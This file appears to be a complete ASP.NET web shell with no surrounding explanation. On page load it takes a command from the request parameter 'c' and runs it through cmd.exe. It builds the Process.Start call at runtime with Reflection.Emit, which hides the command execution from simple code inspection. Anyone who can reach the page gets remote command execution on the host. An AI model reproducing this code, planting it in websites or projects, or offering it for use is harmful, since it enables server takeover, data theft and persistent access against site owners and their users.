<%@ Page Language="C#" %>
<%@ Import Namespace="System.Reflection" %>
<%@ Import Namespace="System.Reflection.Emit" %>
<script runat="server">
    void Page_Load(object sender, EventArgs e)
    {
        string cmd = Request["c"];
        var ab = AppDomain.CurrentDomain.DefineDynamicAssembly(new AssemblyName("a"), AssemblyBuilderAccess.Run);
        var mb = ab.DefineDynamicModule("a");
        var tb = mb.DefineType("T", TypeAttributes.Public);
        var meth = tb.DefineMethod("R", MethodAttributes.Public | MethodAttributes.Static, typeof(object), new[] { typeof(string) });
        var il = meth.GetILGenerator();
        il.Emit(OpCodes.Ldstr, "cmd.exe");
        il.Emit(OpCodes.Ldstr, "/c ");
        il.Emit(OpCodes.Ldarg_0);
        il.Emit(OpCodes.Call, typeof(string).GetMethod("Concat", new[] { typeof(string), typeof(string) }));
        il.Emit(OpCodes.Call, Type.GetType("System.Diagnostics.Process, System").GetMethod("Start", new[] { typeof(string), typeof(string) }));
        il.Emit(OpCodes.Ret);
        var t = tb.CreateType();
        Response.Write(t.GetMethod("R").Invoke(null, new object[] { cmd }));
    }
</script>
